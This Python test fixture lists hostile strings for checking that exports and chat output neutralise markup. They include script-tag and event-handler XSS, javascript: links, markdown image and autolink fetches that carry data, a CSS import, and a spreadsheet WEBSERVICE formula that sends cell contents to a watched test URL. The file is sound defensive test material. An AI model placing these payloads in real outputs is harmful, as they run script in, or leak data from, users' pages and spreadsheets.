"""Text that would run, link or fetch if an output passed it on as markup: the same list for every export and the
chat. ``{url}`` stands for a URL on a server the test watches (no request may reach it)."""

from __future__ import annotations

MARKER = "敌意字样"  # every string carries it, so a test can find where the text landed

HOSTILE = (
    "<script>alert('{marker}1')</script>",
    "<img src={url}/img.png?d=1 onerror=alert('{marker}2')>",
    "<iframe src=\"javascript:alert('{marker}3')\"></iframe>",
    "[{marker}4](javascript:alert(4))",
    "![{marker}5]({url}/md-image.png?d=report-data)",
    "&lt;script&gt;alert('{marker}6')&lt;/script&gt; &#60;img src={url}/entity.png&#62;",
    "<{url}/autolink?d={marker}7> <javascript:alert(7)>",
    "[{marker}8][ref]\n\n[ref]: {url}/reference.png",
    "<svg onload=alert('{marker}9')><a href=javascript:alert(9)>x</a></svg>",
    "`{marker}10` **{marker}10** _{marker}10_ ~~{marker}10~~ $x$ {{: onclick=alert(10)}}",
    "| {marker}11 | a |\n|---|---|\n| <img src={url}/table.png> | b |",
    "# {marker}12\n- 列表\n1. 序号\n> 引用\n    缩进 <b>粗</b>",
    '=WEBSERVICE("{url}/xlsx?d="&A1) =HYPERLINK("{url}/xlsx","{marker}13")',
    '"><script>alert(14)</script>{marker}14',
    "\u202e{marker}15\r\n<style>@import '{url}/style.css';</style>",
    "{marker}16 xxgk@example.gov.cn mailto:a@b.cn :material/home: :streamlit: :smile: :+1: :red[{marker}16]",
    "2025. {marker}17\n---\n1) 李四\n+ 王五\n===",
)


def hostile(url: str) -> list[str]:
    """The hostile strings with ``url`` filled in."""
    return [s.format(url=url, marker=MARKER) for s in HOSTILE]
